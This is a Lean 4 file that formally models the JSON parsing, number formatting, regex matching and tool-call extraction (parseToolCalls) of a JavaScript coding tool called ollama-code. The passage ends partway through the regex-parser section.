import Mathlib

/-!
# ollama-code: directive parsing and permission-gated tool execution

A shallow embedding of `src/utils/parsing.js`, `src/tools/index.js`,
`src/permissions.js` and the parts of the JavaScript platform they call
(`String.prototype.trim`, `JSON.parse`, `JSON.stringify`, `RegExp`).

JavaScript strings are sequences of UTF-16 code units; a code unit is a `Nat`.
The code units that the definitions name by number:

    9 tab      10 line feed   13 carriage return   32 space    34 "     36 $
    40 (       41 )           42 *                 43 +        44 ,     45 -
    46 .       47 /           48..57 0..9          58 :        63 ?     91 [
    92 \       93 ]           94 ^                 96 backtick 123 {    124 |
    125 }      65..90 A..Z    97..122 a..z         8232, 8233 line and paragraph separator

A scan that could loop takes a `fuel` argument, set by its caller above the number of
steps the input allows: every step of `lex` consumes a code unit, every two steps of
`parseValue` a token, every three steps of `parseDisjunction` a code unit of the pattern.
-/

namespace OllamaCode

/-! ## Strings -/

/-- A JavaScript string, as the list of its UTF-16 code units. -/
abbrev JsString := List Nat

/-- UTF-16 code units of one character. -/
def encodeUtf16 (c : Char) : List Nat :=
  if c.toNat < 65536 then [c.toNat]
  else [55296 + (c.toNat - 65536) / 1024, 56320 + (c.toNat - 65536) % 1024]

/-- The JavaScript string written by a literal. -/
def u16 (s : String) : JsString := s.toList.flatMap encodeUtf16

/-- The `WhiteSpace` and `LineTerminator` code units, the ones `String.prototype.trim` strips. -/
def isJsSpace (c : Nat) : Bool :=
  c == 9 || c == 10 || c == 11 || c == 12 || c == 13 || c == 32 || c == 160 ||
  c == 5760 || (8192 ≤ c && c ≤ 8202) || c == 8232 || c == 8233 || c == 8239 ||
  c == 8287 || c == 12288 || c == 65279

/-- Model of `String.prototype.trim`. -/
def trim (s : JsString) : JsString :=
  ((s.dropWhile isJsSpace).reverse.dropWhile isJsSpace).reverse

/-- The test `s.startsWith(p)`, returning the rest of `s` after `p`. -/
def stripPrefix : JsString → JsString → Option JsString
  | [], s => some s
  | _ :: _, [] => none
  | p :: ps, c :: cs => if p = c then stripPrefix ps cs else none

/-- First occurrence of `pat` in `s`: the text before it and the text after it. -/
def findSub (pat : JsString) : JsString → Option (JsString × JsString)
  | [] => (stripPrefix pat []).map fun r => ([], r)
  | c :: cs =>
    match stripPrefix pat (c :: cs) with
    | some r => some ([], r)
    | none => (findSub pat cs).map fun p => (c :: p.1, p.2)

/-- The test `s.includes(pat)`. -/
def includes (s pat : JsString) : Bool := (findSub pat s).isSome

/-! ## Numbers

`JSON.parse` produces IEEE-754 binary64 values. A finite non-zero value is kept as
`m * 2^e` with `2^52 ≤ m < 2^53`, or `m < 2^52` and `e = -1074` (subnormal). -/

/-- The Number values that JSON text can denote. -/
inductive Num where
  | zero (neg : Bool)
  | fin (neg : Bool) (m : Nat) (e : Int)
  | inf (neg : Bool)
  deriving DecidableEq, Repr

/-- The fraction `n / d` divided by `2 ^ e`. -/
def scale2 (n d : Nat) (e : Int) : Nat × Nat :=
  if 0 ≤ e then (n, d * 2 ^ e.toNat) else (n * 2 ^ (-e).toNat, d)

/-- The fraction `n / d` multiplied by `10 ^ e`. -/
def scale10 (n d : Nat) (e : Int) : Nat × Nat :=
  if 0 ≤ e then (n * 10 ^ e.toNat, d) else (n, d * 10 ^ (-e).toNat)

/-- Nearest integer to `n / d`, ties to even. -/
def roundHalfEven (n d : Nat) : Nat :=
  let q := n / d
  let r := n % d
  if 2 * r < d then q else if d < 2 * r then q + 1 else if q % 2 = 0 then q else q + 1

/-- Number of binary digits of `n` (`fuel` bounds the count). -/
def bitLength : Nat → Nat → Nat
  | 0, _ => 0
  | fuel + 1, n => if n = 0 then 0 else bitLength fuel (n / 2) + 1

/-- The integer `l` with `2 ^ l ≤ n / d < 2 ^ (l + 1)`, for `n, d > 0`. -/
def floorLog2 (n d : Nat) : Int :=
  let l0 : Int := (bitLength n n : Int) - (bitLength d d : Int)
  let p := scale2 n d l0
  if p.2 ≤ p.1 then l0 else l0 - 1

/-- Round the positive fraction `n / d` to binary64 (round to nearest, ties to even). -/
def roundToDouble (neg : Bool) (n d : Nat) : Num :=
  if n = 0 then .zero neg
  else
    let e : Int := max (floorLog2 n d - 52) (-1074)
    let p := scale2 n d e
    let m := roundHalfEven p.1 p.2
    if m = 0 then .zero neg
    else if m = 2 ^ 53 then
      (if 1024 ≤ e + 53 then .inf neg else .fin neg (2 ^ 52) (e + 1))
    else if 1025 ≤ e + 53 then .inf neg
    else .fin neg m e

/-- The Number value of the decimal `± coef * 10 ^ exp10`. -/
def Num.ofDecimal (neg : Bool) (coef : Nat) (exp10 : Int) : Num :=
  let p := scale10 coef 1 exp10
  roundToDouble neg p.1 p.2

/-- Decimal digits of `n`, most significant first, as code units (`fuel` bounds the count). -/
def digitsAux : Nat → Nat → List Nat → List Nat
  | 0, _, acc => acc
  | fuel + 1, n, acc =>
    if n < 10 then (48 + n) :: acc else digitsAux fuel (n / 10) ((48 + n % 10) :: acc)

/-- Decimal rendering of a natural number. -/
def natToDigits (n : Nat) : JsString := digitsAux (n + 1) n []

/-- The integer `n0` with `10 ^ (n0 - 1) ≤ n / d < 10 ^ n0`, for `n, d > 0`. -/
def decimalExponent (n d : Nat) : Int :=
  let l0 : Int := ((natToDigits n).length : Int) - ((natToDigits d).length : Int)
  let p := scale10 n d (-l0)
  if p.2 ≤ p.1 then l0 + 1 else l0

/-- Shortest decimal `(s, n)` of `k` digits that reads back as `x`, when there is one:
`Number::toString` step 5 for a given `k`. `v = vn / vd` is the magnitude of `x`. -/
def shortestAt (x : Num) (vn vd : Nat) (n0 : Int) (k : Nat) : Option (Nat × Int) :=
  let t := scale10 vn vd ((k : Int) - n0)
  let lo := t.1 / t.2
  let r := t.1 % t.2
  let hi : Nat × Int := if lo + 1 < 10 ^ k then (lo + 1, n0) else (10 ^ (k - 1), n0 + 1)
  let okLo := decide (Num.ofDecimal false lo (n0 - k) = x)
  let okHi := decide (Num.ofDecimal false hi.1 (hi.2 - k) = x)
  if okLo && okHi then
    (if 2 * r < t.2 then some (lo, n0)
     else if t.2 < 2 * r then some hi
     else if lo % 2 = 0 then some (lo, n0) else some hi)
  else if okLo then some (lo, n0)
  else if okHi then some hi
  else none

/-- First `k` in `ks` at which `shortestAt` succeeds. -/
def shortestDigits (x : Num) (vn vd : Nat) (n0 : Int) : List Nat → Option (Nat × Nat × Int)
  | [] => none
  | k :: ks =>
    match shortestAt x vn vd n0 k with
    | some (s, n) => some (k, s, n)
    | none => shortestDigits x vn vd n0 ks

/-- Steps 7 to 11 of `Number::toString`: lay out the `k` digits of `s` with exponent `n`. -/
def layoutDecimal (digits : JsString) (k : Nat) (n : Int) : JsString :=
  if (k : Int) ≤ n ∧ n ≤ 21 then digits ++ List.replicate (n - k).toNat 48
  else if 0 < n ∧ n ≤ 21 then digits.take n.toNat ++ 46 :: digits.drop n.toNat
  else if -6 < n ∧ n ≤ 0 then 48 :: 46 :: (List.replicate (-n).toNat 48 ++ digits)
  else
    let e := n - 1
    let sign : Nat := if 0 ≤ e then 43 else 45
    let mant := if k = 1 then digits else digits.take 1 ++ 46 :: digits.drop 1
    mant ++ 101 :: sign :: natToDigits e.natAbs

/-- Model of `Number::toString` (radix 10) for finite values; `none` for the infinities. -/
def Num.toJsString : Num → Option JsString
  | .zero _ => some [48]
  | .inf _ => none
  | .fin neg m e =>
    let v := scale2 m 1 (-e)
    let n0 := decimalExponent v.1 v.2
    let x := Num.fin false m e
    let body :=
      match shortestDigits x v.1 v.2 n0 (List.range' 1 17) with
      | some (k, s, n) => layoutDecimal (natToDigits s) k n
      | none => layoutDecimal (natToDigits (roundHalfEven (scale10 v.1 v.2 (17 - n0)).1
          (scale10 v.1 v.2 (17 - n0)).2)) 17 n0
    some (if neg then 45 :: body else body)

/-- Model of `Number::toString` including the infinities (`String(x)`, template literals). -/
def Num.toDisplay : Num → JsString
  | .inf neg => if neg then 45 :: [73, 110, 102, 105, 110, 105, 116, 121]
      else [73, 110, 102, 105, 110, 105, 116, 121]
  | x => (x.toJsString).getD []

/-! ## JSON values -/

/-- A value produced by `JSON.parse`. An object is the list of its own properties in
property-enumeration order. -/
inductive Json where
  | null
  | bool (b : Bool)
  | num (x : Num)
  | str (s : JsString)
  | arr (xs : List Json)
  | obj (kvs : List (JsString × Json))

/-- The value of `n` written in decimal digits. -/
def digitsToNat (ds : List Nat) : Nat := ds.foldl (fun a c => 10 * a + (c - 48)) 0

/-- Is `c` one of `0`..`9`? -/
def isDigit (c : Nat) : Bool := 48 ≤ c && c ≤ 57

/-- An array index: the canonical decimal string of an integer below `2^32 - 1`. -/
def arrayIndex (k : JsString) : Option Nat :=
  if k.all isDigit && k != [] && (k.head? != some 48 || k.length == 1)
      && decide (digitsToNat k < 4294967295) then some (digitsToNat k) else none

/-- Does the object have the own property `k`? -/
def hasOwn (k : JsString) : List (JsString × Json) → Bool
  | [] => false
  | (k', _) :: rest => k' == k || hasOwn k rest

/-- Overwrite the value of the existing own property `k`. -/
def replaceProp (k : JsString) (v : Json) : List (JsString × Json) → List (JsString × Json)
  | [] => []
  | (k', v') :: rest => if k' = k then (k', v) :: rest else (k', v') :: replaceProp k v rest

/-- Add the new array-index property `k` (index `i`): index keys enumerate first, ascending. -/
def insertIndexProp (i : Nat) (k : JsString) (v : Json) :
    List (JsString × Json) → List (JsString × Json)
  | [] => [(k, v)]
  | (k', v') :: rest =>
    match arrayIndex k' with
    | some j => if j < i then (k', v') :: insertIndexProp i k v rest else (k, v) :: (k', v') :: rest
    | none => (k, v) :: (k', v') :: rest

/-- Model of `CreateDataProperty(obj, k, v)`: define or overwrite the own property `k`. -/
def setProp (kvs : List (JsString × Json)) (k : JsString) (v : Json) : List (JsString × Json) :=
  if hasOwn k kvs then replaceProp k v kvs
  else match arrayIndex k with
    | some i => insertIndexProp i k v kvs
    | none => kvs ++ [(k, v)]

/-- Own property lookup. -/
def lookupProp (k : JsString) : List (JsString × Json) → Option Json
  | [] => none
  | (k', v) :: rest => if k' = k then some v else lookupProp k rest

/-- Property read `v.k` for a key `k` that no built-in prototype defines (such as `name`,
`arguments`): the own property of an object, `undefined` (`none`) otherwise. -/
def Json.get (v : Json) (k : JsString) : Option Json :=
  match v with
  | .obj kvs => lookupProp k kvs
  | _ => none

/-- The conversion `ToBoolean`. -/
def Json.truthy : Json → Bool
  | .null => false
  | .bool b => b
  | .num (.zero _) => false
  | .num _ => true
  | .str s => s != []
  | .arr _ => true
  | .obj _ => true

/-- The conversion `ToBoolean` of a possibly `undefined` value. -/
def truthyOpt : Option Json → Bool
  | none => false
  | some v => v.truthy

/-- Strict equality `a === b` of two values that come from two different `JSON.parse`
calls: arrays and objects are then distinct references. -/
def strictEq : Json → Json → Bool
  | .null, .null => true
  | .bool a, .bool b => a == b
  | .num (.zero _), .num (.zero _) => true
  | .num a, .num b => decide (a = b)
  | .str a, .str b => a == b
  | _, _ => false

/-! ## `JSON.parse` -/

/-- JSON white space: tab, line feed, carriage return, space. -/
def isJsonWs (c : Nat) : Bool := c == 9 || c == 10 || c == 13 || c == 32

/-- Value of a hexadecimal digit. -/
def hexVal (c : Nat) : Option Nat :=
  if 48 ≤ c ∧ c ≤ 57 then some (c - 48)
  else if 97 ≤ c ∧ c ≤ 102 then some (c - 87)
  else if 65 ≤ c ∧ c ≤ 70 then some (c - 55)
  else none

/-- The characters of a JSON string literal after its opening quote: the string value
and the text after the closing quote. -/
def lexString : JsString → Option (JsString × JsString)
  | [] => none
  | 34 :: rest => some ([], rest)
  | 92 :: 117 :: a :: b :: c :: d :: rest =>
    match hexVal a, hexVal b, hexVal c, hexVal d with
    | some a, some b, some c, some d =>
      (lexString rest).map fun p => ((a * 4096 + b * 256 + c * 16 + d) :: p.1, p.2)
    | _, _, _, _ => none
  | 92 :: e :: rest =>
    let u : Option Nat :=
      if e = 34 then some 34 else if e = 92 then some 92 else if e = 47 then some 47
      else if e = 98 then some 8 else if e = 102 then some 12 else if e = 110 then some 10
      else if e = 114 then some 13 else if e = 116 then some 9 else none
    match u with
    | some c => (lexString rest).map fun p => (c :: p.1, p.2)
    | none => none
  | c :: rest =>
    if c < 32 ∨ c = 92 then none else (lexString rest).map fun p => (c :: p.1, p.2)

/-- The optional fraction `.ddd` of a number literal: its digits and the text after it. -/
def lexFraction (s : JsString) : Option (List Nat × JsString) :=
  match s with
  | 46 :: t =>
    if t.takeWhile isDigit = [] then none
    else some (t.takeWhile isDigit, t.dropWhile isDigit)
  | _ => some ([], s)

/-- The optional exponent `e±ddd` of a number literal: its value and the text after it. -/
def lexExponent (s : JsString) : Option (Int × JsString) :=
  match s with
  | [] => some (0, s)
  | c :: t =>
    if c = 101 ∨ c = 69 then
      let t1 := if t.head? = some 45 ∨ t.head? = some 43 then t.drop 1 else t
      if t1.takeWhile isDigit = [] then none
      else some ((if t.head? = some 45 then -1 else 1)
          * (digitsToNat (t1.takeWhile isDigit) : Int), t1.dropWhile isDigit)
    else some (0, s)

/-- A JSON number literal at the start of the text: its value and the text after it.
The integer part is `0` or starts with a non-zero digit. -/
def lexNumber (s : JsString) : Option (Num × JsString) :=
  let neg := s.head? == some 45
  let s1 := if neg then s.drop 1 else s
  let ip := s1.takeWhile isDigit
  if ip = [] ∨ (ip.head? = some 48 ∧ ip.length ≠ 1) then none
  else
    match lexFraction (s1.dropWhile isDigit) with
    | none => none
    | some (fp, s3) =>
      match lexExponent s3 with
      | none => none
      | some (e, s4) => some (Num.ofDecimal neg (digitsToNat (ip ++ fp)) (e - fp.length), s4)

/-- JSON tokens. -/
inductive Token where
  | punct (c : Nat)
  | str (s : JsString)
  | atom (v : Json)

/-- Tokens of a JSON text; `none` when some character belongs to no token. -/
def lex : Nat → JsString → Option (List Token)
  | 0, _ => none
  | _ + 1, [] => some []
  | fuel + 1, c :: rest =>
    if isJsonWs c then lex fuel rest
    else if c = 123 ∨ c = 125 ∨ c = 91 ∨ c = 93 ∨ c = 58 ∨ c = 44 then
      (lex fuel rest).map fun ts => Token.punct c :: ts
    else if c = 34 then
      match lexString rest with
      | some (v, r) => (lex fuel r).map fun ts => Token.str v :: ts
      | none => none
    else if c = 45 ∨ isDigit c then
      match lexNumber (c :: rest) with
      | some (x, r) => (lex fuel r).map fun ts => Token.atom (.num x) :: ts
      | none => none
    else
      match stripPrefix [110, 117, 108, 108] (c :: rest) with
      | some r => (lex fuel r).map fun ts => Token.atom .null :: ts
      | none =>
        match stripPrefix [116, 114, 117, 101] (c :: rest) with
        | some r => (lex fuel r).map fun ts => Token.atom (.bool true) :: ts
        | none =>
          match stripPrefix [102, 97, 108, 115, 101] (c :: rest) with
          | some r => (lex fuel r).map fun ts => Token.atom (.bool false) :: ts
          | none => none

/-- The object with the given members defined in source order (a later duplicate key
overwrites the value). -/
def mkObject (members : List (JsString × Json)) : Json :=
  .obj (members.foldl (fun kvs m => setProp kvs m.1 m.2) [])

mutual
/-- One JSON value at the start of the token list. -/
def parseValue : Nat → List Token → Option (Json × List Token)
  | 0, _ => none
  | _ + 1, Token.atom v :: ts => some (v, ts)
  | _ + 1, Token.str s :: ts => some (.str s, ts)
  | fuel + 1, Token.punct c :: ts =>
    if c = 91 then
      match ts with
      | Token.punct 93 :: ts' => some (.arr [], ts')
      | _ => (parseElements fuel ts).map fun p => (.arr p.1, p.2)
    else if c = 123 then
      match ts with
      | Token.punct 125 :: ts' => some (.obj [], ts')
      | _ => (parseMembers fuel ts).map fun p => (mkObject p.1, p.2)
    else none
  | _ + 1, [] => none
/-- Array elements up to and including the closing bracket. -/
def parseElements : Nat → List Token → Option (List Json × List Token)
  | 0, _ => none
  | fuel + 1, ts =>
    match parseValue fuel ts with
    | some (v, Token.punct 44 :: ts') => (parseElements fuel ts').map fun p => (v :: p.1, p.2)
    | some (v, Token.punct 93 :: ts') => some ([v], ts')
    | _ => none
/-- Object members up to and including the closing brace. -/
def parseMembers : Nat → List Token → Option (List (JsString × Json) × List Token)
  | 0, _ => none
  | fuel + 1, Token.str k :: Token.punct 58 :: ts =>
    match parseValue fuel ts with
    | some (v, Token.punct 44 :: ts') =>
      (parseMembers fuel ts').map fun p => ((k, v) :: p.1, p.2)
    | some (v, Token.punct 125 :: ts') => some ([(k, v)], ts')
    | _ => none
  | _ + 1, _ => none
end

/-- Model of `JSON.parse(text)`; `none` stands for the `SyntaxError` it throws. -/
def JSON.parse (text : JsString) : Option Json :=
  match lex (text.length + 1) text with
  | none => none
  | some ts =>
    match parseValue (2 * ts.length + 2) ts with
    | some (v, []) => some v
    | _ => none

/-! ## `JSON.stringify` -/

/-- Lower-case hexadecimal digit. -/
def hexDigit (n : Nat) : Nat := if n < 10 then 48 + n else 87 + n

/-- The escape `\uXXXX` of a code unit. -/
def unicodeEscape (c : Nat) : JsString :=
  [92, 117, hexDigit (c / 4096 % 16), hexDigit (c / 256 % 16), hexDigit (c / 16 % 16),
    hexDigit (c % 16)]

/-- Model of `QuoteJSONString` for one code unit that is not part of a surrogate pair: short
escapes, `\u` escapes for control characters and lone surrogates, the unit itself
otherwise. -/
def quoteUnit (c : Nat) : JsString :=
  if c = 8 then [92, 98]
  else if c = 9 then [92, 116]
  else if c = 10 then [92, 110]
  else if c = 12 then [92, 102]
  else if c = 13 then [92, 114]
  else if c = 34 then [92, 34]
  else if c = 92 then [92, 92]
  else if c < 32 then unicodeEscape c
  else if 55296 ≤ c ∧ c ≤ 57343 then unicodeEscape c
  else [c]

/-- Body of `QuoteJSONString`: a high surrogate followed by a low surrogate is one code
point and is copied; every other code unit goes through `quoteUnit`. -/
def quoteChars : JsString → JsString
  | [] => []
  | [c] => quoteUnit c
  | c :: d :: rest =>
    if (55296 ≤ c ∧ c ≤ 56319) ∧ (56320 ≤ d ∧ d ≤ 57343) then c :: d :: quoteChars rest
    else quoteUnit c ++ quoteChars (d :: rest)

/-- Model of `QuoteJSONString`. -/
def quoteJson (s : JsString) : JsString := 34 :: (quoteChars s ++ [34])

mutual
/-- Model of `JSON.stringify(v)` with no replacer and no indentation. -/
def JSON.stringify : Json → JsString
  | .null => [110, 117, 108, 108]
  | .bool true => [116, 114, 117, 101]
  | .bool false => [102, 97, 108, 115, 101]
  | .num x => (x.toJsString).getD [110, 117, 108, 108]
  | .str s => quoteJson s
  | .arr xs => 91 :: (stringifyElements xs ++ [93])
  | .obj kvs => 123 :: (stringifyMembers kvs ++ [125])
/-- Array elements separated by commas. -/
def stringifyElements : List Json → JsString
  | [] => []
  | [x] => JSON.stringify x
  | x :: y :: rest => JSON.stringify x ++ 44 :: stringifyElements (y :: rest)
/-- Object members `"key":value` separated by commas. -/
def stringifyMembers : List (JsString × Json) → JsString
  | [] => []
  | [(k, v)] => quoteJson k ++ 58 :: JSON.stringify v
  | (k, v) :: m :: rest => quoteJson k ++ 58 :: JSON.stringify v ++ 44 :: stringifyMembers (m :: rest)
end

mutual
/-- The conversion `ToString(v)` as in a template literal or a property key; `none` stands for the
`TypeError` of an object whose own `toString` property shadows the built-in method. -/
def Json.toDisplay : Json → Option JsString
  | .null => some [110, 117, 108, 108]
  | .bool true => some [116, 114, 117, 101]
  | .bool false => some [102, 97, 108, 115, 101]
  | .num x => some x.toDisplay
  | .str s => some s
  | .arr xs => joinDisplay xs
  | .obj kvs =>
    if hasOwn [116, 111, 83, 116, 114, 105, 110, 103] kvs then none
    else some [91, 111, 98, 106, 101, 99, 116, 32, 79, 98, 106, 101, 99, 116, 93]
/-- Model of `Array.prototype.join(",")`: a `null` element gives the empty string, any other
element its `ToString`. -/
def joinDisplay : List Json → Option JsString
  | [] => some []
  | [x] =>
    match x with
    | .null => some []
    | v => Json.toDisplay v
  | x :: y :: rest =>
    match (match x with
      | .null => some []
      | v => Json.toDisplay v), joinDisplay (y :: rest) with
    | some a, some b => some (a ++ 44 :: b)
    | _, _ => none
end

/-! ## `src/utils/parsing.js`: `parseToolCalls` -/

/-- A tool call `{ name, arguments }`. -/
structure ToolCall where
  name : Json
  arguments : Json

/-- The pattern `codeBlockRegex` = ``/```(?:json)?\n([\s\S]*?)\n```/`` matched at the start of `s`:
capture group 1 and the length of the match. After the three backticks the optional
`json` and the line feed leave one way to continue; the lazy group then ends at the
first line feed followed by three backticks. -/
def matchCodeBlockAt (s : JsString) : Option (JsString × Nat) :=
  match s with
  | 96 :: 96 :: 96 :: r =>
    let body : Option (JsString × Nat) :=
      match r with
      | 106 :: 115 :: 111 :: 110 :: 10 :: r' => some (r', 8)
      | 10 :: r' => some (r', 4)
      | _ => none
    match body with
    | some (r', h) =>
      match findSub [10, 96, 96, 96] r' with
      | some (cap, _) => some (cap, h + cap.length + 4)
      | none => none
    | none => none
  | _ => none

/-- The pattern `inlineJsonRegex` = `/\{[\s\S]*?"name"[\s\S]*?"arguments"[\s\S]*?\}/` matched at the
start of `s`: the matched text and its length. Each lazy `[\s\S]*?` stops at the first
occurrence of what follows it (a later occurrence leaves less text for the rest of the
pattern, so it matches only if the first one does). -/
def matchInlineAt (s : JsString) : Option (JsString × Nat) :=
  match s with
  | 123 :: r =>
    match findSub [34, 110, 97, 109, 101, 34] r with
    | some (a, r1) =>
      match findSub [34, 97, 114, 103, 117, 109, 101, 110, 116, 115, 34] r1 with
      | some (b, r2) =>
        match findSub [125] r2 with
        | some (c, _) =>
          let len := 1 + a.length + 6 + b.length + 11 + c.length + 1
          some (s.take len, len)
        | none => none
      | none => none
    | none => none
  | _ => none

/-- The loop `while ((match = regex.exec(text)) !== null)` of a global regular
expression that matches no empty text: the matches in order, each with `match.index`.
The scan tries each index from left to right and resumes at the end of a match
(`skip` counts the code units of the last match still to pass). -/
def execAll {α : Type} (matchAt : JsString → Option (α × Nat)) :
    Nat → Nat → JsString → List (Nat × α)
  | _, _, [] => []
  | skip + 1, pos, _ :: cs => execAll matchAt skip (pos + 1) cs
  | 0, pos, c :: cs =>
    match matchAt (c :: cs) with
    | some (a, len) => (pos, a) :: execAll matchAt (len - 1) (pos + 1) cs
    | none => execAll matchAt 0 (pos + 1) cs

/-- The body of both `try` blocks: `JSON.parse(content.trim())` and the test
`parsed && parsed.name && parsed.arguments`; `none` when the text is skipped. -/
def directiveOf (content : JsString) : Option ToolCall :=
  match JSON.parse (trim content) with
  | none => none
  | some parsed =>
    if parsed.truthy && truthyOpt (parsed.get [110, 97, 109, 101])
        && truthyOpt (parsed.get [97, 114, 103, 117, 109, 101, 110, 116, 115]) then
      match parsed.get [110, 97, 109, 101], parsed.get [97, 114, 103, 117, 109, 101, 110, 116, 115] with
      | some n, some a => some ⟨n, a⟩
      | _, _ => none
    else none

/-- The duplicate test `call.name === parsed.name &&
JSON.stringify(call.arguments) === JSON.stringify(parsed.arguments)`. -/
def isDuplicate (call parsed : ToolCall) : Bool :=
  strictEq call.name parsed.name &&
    JSON.stringify call.arguments == JSON.stringify parsed.arguments

/-- The matches of `codeBlockRegex` in order: `(match.index, match[1])`. -/
def codeBlockMatches (text : JsString) : List (Nat × JsString) :=
  execAll matchCodeBlockAt 0 0 text

/-- The matches of `inlineJsonRegex` in order: `(match.index, match[0])`. -/
def inlineMatches (text : JsString) : List (Nat × JsString) :=
  execAll matchInlineAt 0 0 text

/-- First loop of `parseToolCalls`: every fenced block that holds a tool call is pushed. -/
def codeBlockPass (text : JsString) : List ToolCall :=
  (codeBlockMatches text).filterMap fun m => directiveOf m.2

/-- One iteration of the second loop: push the parsed call unless it is a duplicate. -/
def inlineStep (toolCalls : List ToolCall) (m : Nat × JsString) : List ToolCall :=
  match directiveOf m.2 with
  | some parsed =>
    if toolCalls.any fun call => isDuplicate call parsed then toolCalls
    else toolCalls ++ [parsed]
  | none => toolCalls

/-- Embedding of `parseToolCalls(text)`. -/
def parseToolCalls (text : JsString) : List ToolCall :=
  (inlineMatches text).foldl inlineStep (codeBlockPass text)

/-! ## Regular expressions

`new RegExp(source)` with no flags, for the part of the pattern language listed at
`Parsed.unsupported`. No supported construct looks at captures, so `test` only needs
the set of positions where a match can end. -/

/-- One member of a character class. -/
inductive ClassItem where
  | range (lo hi : Nat)
  | digit (neg : Bool)
  | space (neg : Bool)
  | word (neg : Bool)

/-- Abstract syntax of the supported patterns. -/
inductive Regex where
  | empty
  | char (c : Nat)
  | any
  | cls (neg : Bool) (items : List ClassItem)
  | bol
  | eol
  | wordBoundary (neg : Bool)
  | seq (a b : Regex)
  | alt (a b : Regex)
  | rep (min : Nat) (max : Option Nat) (r : Regex)

/-- The `LineTerminator` set: the code units that `.` does not match. -/
def isLineTerminator (c : Nat) : Bool := c == 10 || c == 13 || c == 8232 || c == 8233

/-- The characters of `\w`. -/
def isWordChar (c : Nat) : Bool :=
  (97 ≤ c && c ≤ 122) || (65 ≤ c && c ≤ 90) || (48 ≤ c && c ≤ 57) || c == 95

/-- Does the class member contain the code unit? -/
def ClassItem.test : ClassItem → Nat → Bool
  | .range lo hi, c => lo ≤ c && c ≤ hi
  | .digit neg, c => isDigit c != neg
  | .space neg, c => isJsSpace c != neg
  | .word neg, c => isWordChar c != neg

/-- The list without repeated positions. -/
def dedupPositions : List Nat → List Nat
  | [] => []
  | x :: xs => if xs.contains x then dedupPositions xs else x :: dedupPositions xs

/-- Positions reached from the positions `from_` by exactly `n` iterations, where
`step` gives the end positions of one iteration. -/
def iterateExactly (step : Nat → List Nat) : Nat → List Nat → List Nat
  | 0, from_ => from_
  | n + 1, from_ => iterateExactly step n (dedupPositions (from_.flatMap step))

/-- Positions reached from `from_` by at most `max` further iterations (any number for
`none`), each of which consumes at least one code unit: an optional iteration that
matches the empty text is not taken (`RepeatMatcher`). Every round moves the frontier
forward, so `fuel` rounds with `fuel` above the input length reach everything. -/
def iterateUpTo (step : Nat → List Nat) : Nat → Option Nat → List Nat → List Nat
  | 0, _, _ => []
  | fuel + 1, max, from_ =>
    if from_.isEmpty then []
    else if max = some 0 then from_
    else from_ ++ iterateUpTo step fuel (max.map fun m => m - 1)
      (dedupPositions (from_.flatMap fun i => (step i).filter fun j => i < j))

/-- End positions of `min` to `max` iterations from position `i` of an input of length
`len`. -/
def repEnds (step : Nat → List Nat) (len min : Nat) (max : Option Nat) (i : Nat) : List Nat :=
  iterateUpTo step (len + 1) (max.map fun m => m - min) (iterateExactly step min [i])

/-- The positions at which a match of the pattern that starts at position `i` of `inp`
can end. -/
def Regex.ends (inp : JsString) : Regex → Nat → List Nat
  | .empty, i => [i]
  | .char c, i => if inp[i]? = some c then [i + 1] else []
  | .any, i =>
    match inp[i]? with
    | some c => if isLineTerminator c then [] else [i + 1]
    | none => []
  | .cls neg items, i =>
    match inp[i]? with
    | some c => if (items.any fun it => it.test c) != neg then [i + 1] else []
    | none => []
  | .bol, i => if i = 0 then [i] else []
  | .eol, i => if i = inp.length then [i] else []
  | .wordBoundary neg, i =>
    let a := match i with
      | 0 => false
      | j + 1 => inp[j]?.any isWordChar
    let b := (inp[i]?).any isWordChar
    if ((a != b) != neg) then [i] else []
  | .seq a b, i => dedupPositions ((a.ends inp i).flatMap fun j => b.ends inp j)
  | .alt a b, i => dedupPositions (a.ends inp i ++ b.ends inp i)
  | .rep min max r, i =>
    dedupPositions (repEnds (fun j => r.ends inp j) inp.length min max i)

/-- Model of `regex.test(s)` for a regular expression without flags: is there a match starting
at some index? -/
def Regex.test (r : Regex) (s : JsString) : Bool :=
  (List.range (s.length + 1)).any fun i => !(r.ends s i).isEmpty

/-- Outcome of reading a pattern. -/
inductive Parsed (α : Type) where
  | ok (a : α)
  /-- The pattern is rejected: `new RegExp` throws a `SyntaxError`. -/
  | syntaxError
  /-- The pattern uses a construct outside this model: look-around and named groups
  `(?=` `(?!` `(?<`, back-references and legacy octal escapes `\1`..`\9` `\0d`, the
  escapes `\c` `\x` `\u` `\k`, and a class escape `\d \s \w` as an end of a class
  range. -/
  | unsupported

/-- A braced quantifier `{n}`, `{n,}` or `{n,m}` at the start of the text: its bounds and
the rest. -/
def bracedQuantifier (s : JsString) : Option ((Nat × Option Nat) × JsString) :=
  match s with
  | 123 :: t =>
    let ds := t.takeWhile isDigit
    if ds = [] then none
    else
      match t.dropWhile isDigit with
      | 125 :: r => some ((digitsToNat ds, some (digitsToNat ds)), r)
      | 44 :: u =>
        let es := u.takeWhile isDigit
        match u.dropWhile isDigit with
        | 125 :: r =>
          some ((digitsToNat ds, if es = [] then none else some (digitsToNat es)), r)
        | _ => none
      | _ => none
  | _ => none

/-- The optional quantifier after an atom, with its optional lazy mark `?`. -/
def applyQuantifier (atom : Regex) (s : JsString) : Parsed (Regex × JsString) :=
  let q : Option ((Nat × Option Nat) × JsString) :=
    match s with
    | 42 :: r => some ((0, none), r)
    | 43 :: r => some ((1, none), r)
    | 63 :: r => some ((0, some 1), r)
    | _ => bracedQuantifier s
  match q with
  | none => .ok (atom, s)
  | some ((lo, hi), r) =>
    if (hi.any fun h => h < lo) then .syntaxError
    else
      match r with
      | 63 :: r' => .ok (.rep lo hi atom, r')
      | _ => .ok (.rep lo hi atom, r)

/-- The character or class written by `\e` (outside the assertions `\b`, `\B`). -/
def escapeAtom (inClass : Bool) (e : Nat) (next : Option Nat) : Parsed ClassItem :=
  if e = 100 then .ok (.digit false) else if e = 68 then .ok (.digit true)
  else if e = 115 then .ok (.space false) else if e = 83 then .ok (.space true)
  else if e = 119 then .ok (.word false) else if e = 87 then .ok (.word true)
  else if e = 102 then .ok (.range 12 12) else if e = 110 then .ok (.range 10 10)
  else if e = 114 then .ok (.range 13 13) else if e = 116 then .ok (.range 9 9)
  else if e = 118 then .ok (.range 11 11)
  else if e = 98 ∧ inClass then .ok (.range 8 8)
  else if e = 48 then (if next.any isDigit then .unsupported else .ok (.range 0 0))
  else if isDigit e ∨ e = 99 ∨ e = 120 ∨ e = 117 ∨ e = 107 then .unsupported
  else .ok (.range e e)

/-- One class atom at the start of the text (not `]`): the member and the rest. -/
